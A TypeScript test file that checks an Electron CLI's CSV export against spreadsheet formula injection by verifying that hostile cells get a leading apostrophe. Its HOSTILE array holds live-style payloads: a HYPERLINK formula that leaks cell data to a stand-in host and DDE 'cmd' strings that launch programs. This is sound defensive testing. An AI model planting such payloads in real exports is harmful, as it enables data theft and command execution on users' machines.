import { describe, expect, it } from 'vitest';
import { crossTabCsv, reconciliationCsv, sourceRowsText } from '../../electron/cli/format';
import type { CrossTab } from '../../shared/spec';
import type { Reconciliation } from '../../shared/reconcile';
import type { SourceRows } from '../../electron/core/query/drill';

// OWASP "CSV injection": a text cell starting with = + - @, a tab or a carriage return is run by a
// spreadsheet as a formula; it gets a leading apostrophe. Numbers, negative ones too, stay numbers.
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

function table(keys: string[]): CrossTab {
  return {
    spec: { measure: 'fatalities', rows: ['mission'], cols: 'year', where: {} },
    rowDims: ['mission'],
    colDim: 'year',
    colKeys: ['=2018'],
    rows: keys.map((k, i) => ({ key: [k], cells: [-(i + 1)], total: -(i + 1) })),
    colTotals: [-21],
    grandTotal: -21.5,
    blankReason: null,
    synthetic: false,
    sources: [],
    elapsedMs: 1,
  };
}

/** Splits CSV text into fields (quotes honoured) so each hostile cell can be checked alone. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
    else field += c;
  }
  return rows;
}

describe('CSV written by the CLI cannot carry a formula (finding 2)', () => {
  it('crosstab --format csv: hostile keys and headers get an apostrophe; negative numbers stay numbers', () => {
    const rows = parse(crossTabCsv(table(HOSTILE)));
    expect(rows[0]).toEqual(['mission', "'=2018", 'total']);
    expect(rows.slice(1, -1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(rows.slice(1, -1).map((r) => r[1])).toEqual(['-1', '-2', '-3', '-4', '-5', '-6']);
    expect(rows[rows.length - 1]).toEqual(['total', '-21', '-21.5']);
  });

  it('sources --format csv: hostile text cells escaped, numbers as numbers', () => {
    const part: SourceRows = {
      subject: 'fatalities',
      role: 'rows',
      columns: ['mission', 'nationality', 'count', 'file', 'line'],
      rows: HOSTILE.map((h, i) => [h, '@evil', -i, '=file.csv', i + 2]),
      total: HOSTILE.length,
      truncated: false,
    };
    const rows = parse(sourceRowsText(part, 'csv'));
    for (const [i, r] of rows.slice(1).entries()) expect(r).toEqual([`'${HOSTILE[i]}`, "'@evil", String(-i), "'=file.csv", String(i + 2)]);
  });

  it('reconcile --format csv: a negative difference is a number, hostile reasons are text', () => {
    const r = {
      synthetic: false,
      workspace: 'w',
      counts: { matches: 0, differs: 1, cannot_compute: 0 },
      figures: [
        {
          figure: { id: '=id', value: 10, document: { symbol: '+S/2020/1', title: 't', locator: '-para 3', date: '2020-01-01' } },
          recomputed: 8,
          difference: -2,
          status: 'differs',
          reason: '@reason',
          caveats: [],
        },
      ],
    } as unknown as Reconciliation;
    const rows = parse(reconciliationCsv(r));
    expect(rows[1]).toEqual(["'=id", "'+S/2020/1", "'-para 3", '2020-01-01', '10', '8', '-2', 'differs', "'@reason"]);
  });
});
